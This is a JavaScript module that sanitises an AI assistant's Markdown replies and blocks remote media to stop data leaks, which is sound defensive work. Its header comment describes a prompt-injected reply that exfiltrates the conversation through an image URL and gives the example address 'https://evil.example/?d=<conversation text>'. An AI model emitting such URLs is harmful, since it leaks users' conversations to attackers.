// Assistant replies are Markdown written by a model: parsed by marked, then sanitised by
// DOMPurify before they touch the page, so HTML in a reply can never run script.
//
// Remote media is never loaded: a reply that a prompt injection wrote could otherwise
// make the browser fetch `https://evil.example/?d=<conversation text>`. Every image,
// video, audio or source whose address is not this site's own becomes a placeholder with
// the link, which the user may choose to open. The check runs inside the sanitiser,
// before the markup reaches a live document (which would start loading at once).
import { Marked } from "./vendor/marked.esm.js";
import DOMPurify from "./vendor/purify.es.mjs";

const marked = new Marked({ gfm: true, breaks: true, async: false });

// Attributes that make a browser fetch a URL by themselves.
const FETCHING_ATTRIBUTES = ["src", "srcset", "poster", "background", "data", "href", "xlink:href"];
const MEDIA_TAGS = new Set(["IMG", "VIDEO", "AUDIO", "SOURCE", "TRACK", "PICTURE", "IMAGE"]);
const REMOTE = "data-remote-url";

function sameOrigin(value) {
  try {
    const url = new URL(value, window.location.href);
    return url.origin === window.location.origin;
  } catch {
    return false;
  }
}

function srcsetUrls(value) {
  return value
    .split(",")
    .map((candidate) => candidate.trim().split(/\s+/)[0])
    .filter(Boolean);
}

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A" && node.hasAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
    return;
  }
  if (!MEDIA_TAGS.has(node.nodeName.toUpperCase())) {
    // A table cell's background image: dropped when it is another site's.
    if (node.hasAttribute("background") && !sameOrigin(node.getAttribute("background"))) {
      node.removeAttribute("background");
    }
    return;
  }
  let remote = null;
  for (const name of FETCHING_ATTRIBUTES) {
    if (!node.hasAttribute(name)) continue;
    const value = node.getAttribute(name);
    const urls = name === "srcset" ? srcsetUrls(value) : [value];
    const foreign = urls.find((url) => !sameOrigin(url));
    if (foreign !== undefined) remote = remote || foreign;
  }
  if (remote === null) return;
  for (const name of FETCHING_ATTRIBUTES) node.removeAttribute(name);
  node.setAttribute(REMOTE, remote);
});

const PURIFY = {
  // HTML only: no SVG or MathML, whose images, <use>, filters and url() paints fetch too.
  USE_PROFILES: { html: true },
  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "dialog", "link", "meta"],
  FORBID_ATTR: ["style"],
  RETURN_DOM_FRAGMENT: true,
};

function webAddress(value) {
  try {
    const url = new URL(value, window.location.href);
    return url.protocol === "https:" || url.protocol === "http:" ? url : null;
  } catch {
    return null;
  }
}

function placeholder(doc, element, holder) {
  const url = element.getAttribute(REMOTE);
  const web = webAddress(url);
  const kind = { VIDEO: "Video", AUDIO: "Audio" }[holder.tagName] || "Image";
  const box = doc.createElement("span");
  box.className = "remote-media";
  const label = element.getAttribute("alt") || element.getAttribute("title") || "";
  const where = web ? `from ${web.host}` : "from another source";
  box.append(`${kind} ${where}, not loaded${label ? ` (${label})` : ""}: `);
  const shown = url.length > 120 ? `${url.slice(0, 117)}…` : url;
  if (!web) {
    // Only web addresses become links: a data: or other scheme is shown, never opened.
    const code = doc.createElement("code");
    code.textContent = shown;
    box.append(code);
    return box;
  }
  // Opening it is the user's choice: a new tab that sends no referrer.
  const link = doc.createElement("a");
  link.href = web.href;
  link.textContent = shown;
  link.title = "Opens in a new tab: the other site learns the address";
  link.target = "_blank";
  link.rel = "noopener noreferrer nofollow";
  box.append(link);
  return box;
}

export function renderMarkdown(text) {
  // The fragment lives in the sanitiser's own inert document: nothing in it loads.
  const fragment = DOMPurify.sanitize(marked.parse(text || ""), PURIFY);
  const doc = fragment.ownerDocument;
  for (const element of fragment.querySelectorAll(`[${REMOTE}]`)) {
    // A <picture>, <video> or <audio> becomes one placeholder; its sources go with it.
    const holder = element.closest("picture, video, audio") || element;
    if (holder !== element && holder.hasAttribute("data-replaced")) continue;
    holder.setAttribute("data-replaced", "");
    holder.replaceWith(placeholder(doc, element, holder));
  }
  const container = doc.createElement("div");
  container.append(fragment);
  for (const pre of container.querySelectorAll("pre")) withCopyButton(doc, pre);
  return container.innerHTML;
}

// Every code block gets a Copy button (added after sanitising: the page's own markup, its
// clicks handled in actions.js). Its word comes from the style sheet, so the reply's text
// stays the reply's.
function withCopyButton(doc, pre) {
  const block = doc.createElement("div");
  block.className = "code-block";
  const button = doc.createElement("button");
  button.type = "button";
  button.className = "copy-code";
  button.setAttribute("aria-label", "Copy code");
  button.dataset.label = "Copy";
  pre.replaceWith(block);
  block.append(button, pre);
}
